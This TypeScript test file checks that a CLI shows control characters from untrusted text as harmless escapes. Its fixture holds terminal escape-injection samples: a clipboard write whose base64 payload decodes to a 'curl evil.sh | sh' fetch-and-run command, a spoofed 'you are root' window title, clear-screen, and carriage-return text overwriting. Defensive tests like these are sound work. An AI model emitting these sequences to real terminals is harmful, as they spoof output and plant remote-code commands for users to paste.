/**
 * Text someone else wrote reaches a terminal inert: the sanitizer itself (terminalText.ts), the
 * table and name output, JSON and YAML kept exact, and the progress display, with the sequences
 * that act on a terminal: OSC 52 (set the clipboard), a window title, clear-screen, and C1 CSI.
 */
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import type { OutputStream } from "../../provider/cli/commandEnv";
import { formatted, type Printable } from "../../provider/cli/formatOutput";
import { progressDisplay } from "../../provider/cli/progressDisplay";
import { shownLine, shownText } from "../../provider/util/terminalText";

/** The sequences of the finding, by what they do, with how each must be shown. */
const HOSTILE: readonly [string, string, string][] = [
  [
    "OSC 52 (writes the clipboard)",
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07",
  ],
  ["a window title", "\x1b]0;you are root\x07", "\\x1b]0;you are root\\x07"],
  ["clear-screen", "\x1b[2J\x1b[H", "\\x1b[2J\\x1b[H"],
  ["C1 CSI, without ESC", "\x9b2J", "\\x9b2J"],
  ["DEL, backspace and carriage return", "ok\x7f\x08\rFAKE", "ok\\x7f\\x08\\rFAKE"],
];

/** Any character a terminal acts on, line breaks and tabs aside. */
// eslint-disable-next-line no-control-regex -- the characters to find
const ACTIVE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

/** A captured stream; a terminal when `isTTY`. */
class Captured implements OutputStream {
  text = "";
  constructor(readonly isTTY = false) {}
  write(text: string): boolean {
    this.text += text;
    return true;
  }
}

describe("shownText and shownLine", () => {
  it.each(HOSTILE)("show %s as its escapes", (_, raw, shown) => {
    expect(shownText(`before ${raw} after`)).toBe(`before ${shown} after`);
    expect(shownLine(`before ${raw} after`)).toBe(`before ${shown} after`);
  });

  it("keep line breaks and tabs in a message, and show them in a line", () => {
    expect(shownText("line one\n\tline two")).toBe("line one\n\tline two");
    expect(shownLine("line one\n\tline two")).toBe("line one\\n\\tline two");
  });

  it("leave printable text, non-ASCII included, as it is", () => {
    const text = "tenant team-ätlas: 16Gi → ready ✓";
    expect(shownText(text)).toBe(text);
  });
});

describe("--output of what others wrote", () => {
  interface Row {
    readonly name: string;
    readonly message: string;
  }
  const rows: Row[] = HOSTILE.map(([, raw], i) => ({ name: `t${i}${raw}`, message: `reason ${raw}\nsecond line` }));
  const printable: Printable<Row> = {
    rows,
    columns: [
      { heading: "NAME", value: (r) => r.name },
      { heading: "MESSAGE", value: (r) => r.message },
    ],
    document: { items: rows },
    names: rows.map((r) => `tenant/${r.name}`),
  };

  it.each(["table", "name"] as const)("%s shows each control character as its escape, one line per row", (format) => {
    const text = formatted(printable, format);
    expect(text).not.toMatch(ACTIVE);
    expect(text.split("\n")).toHaveLength(rows.length + (format === "table" ? 2 : 1));
    for (const [, , shown] of HOSTILE) expect(text).toContain(shown);
  });

  it.each([
    ["json", (text: string) => JSON.parse(text)],
    ["yaml", (text: string) => parse(text)],
  ] as const)("%s is the exact data, with no control character raw", (format, read) => {
    const text = formatted(printable, format);
    expect(text).not.toMatch(ACTIVE);
    expect(read(text)).toEqual({ items: rows });
  });
});

describe("progress of what others wrote", () => {
  it.each([false, true])("shows each control character as its escape (terminal: %s)", (isTTY) => {
    const stream = new Captured(isTTY);
    const display = progressDisplay(stream);
    for (const [, raw] of HOSTILE) {
      display.tenant({ name: `team${raw}`, phase: "Provisioning", detail: `step ${raw}` });
      display.note(`note ${raw}`);
    }
    display.tenant({ name: "team", phase: "Failed", detail: `failed ${HOSTILE[0][1]}` });
    display.close();
    // The display's own sequences (clear the line, go back to its start) are the only ones.
    const others = stream.text.replaceAll("\r\x1b[2K", "");
    expect(others).not.toMatch(ACTIVE);
    for (const [, , shown] of HOSTILE) expect(others).toContain(shown);
  });
});
